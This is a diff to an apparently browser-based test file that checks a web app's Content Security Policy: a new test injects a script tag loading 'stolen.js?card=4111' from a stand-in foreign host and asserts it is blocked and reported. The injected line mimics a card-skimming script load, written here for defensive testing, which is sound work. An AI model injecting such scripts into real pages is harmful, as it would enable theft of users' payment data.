@@ -1,5 +1,5 @@
 /**
- * Hostile receipts, opened from the built Worker in a real browser: none runs a script (reliability
+ * What a real browser makes of hostile receipts and of another site's script: none runs (reliability
  * T13).
  */
 import { expect, it } from "vitest";
@@ -63,4 +63,38 @@ it("runs no script of any file that was taken, opened by itself or shown in a pa
 	console.log(`hostile receipts opened in Chromium: ${opened}, scripts run: ${ran}`);
 	expect(opened).toBeGreaterThan(10);
 	expect(ran).toBe(0);
+});
+
+it("stops a script of another site on our own page, and reports it", async () => {
+	const context = await stage.browser.newContext({ baseURL: stage.fleet.origin });
+	const page = await context.newPage();
+	await signIn(page, "dana@milepost.test");
+	// Chromium sends what `report-to` asks for only outside of private windows, which these are, and
+	// then leaves `report-uri` alone: what other browsers go by is what is left to it here.
+	await page.route("/mileage?*", async (route) => {
+		const response = await route.fetch();
+		const headers = response.headers();
+		const policy = (headers["content-security-policy"] ?? "").replace("; report-to csp", "");
+		await route.fulfill({ response, headers: { ...headers, "content-security-policy": policy } });
+	});
+	await page.goto("/mileage?notes=private");
+	const isRun = await page.evaluate(
+		() =>
+			new Promise((resolve) => {
+				const script = document.createElement("script");
+				script.onload = () => resolve(true);
+				script.onerror = () => resolve(false);
+				script.src = "http://other.localhost:1/stolen.js?card=4111";
+				document.head.appendChild(script);
+			}),
+	);
+	expect(isRun).toBe(false);
+	const reported = () => stage.fleet.lines.filter((line) => line.includes('"csp":'));
+	await expect.poll(() => reported().length, { timeout: 30_000 }).toBe(1);
+	expect(JSON.parse(reported()[0] ?? "").csp).toEqual({
+		directive: "script-src-elem",
+		blocked: "http://other.localhost:1",
+		path: "/mileage",
+	});
+	await context.close();
 });
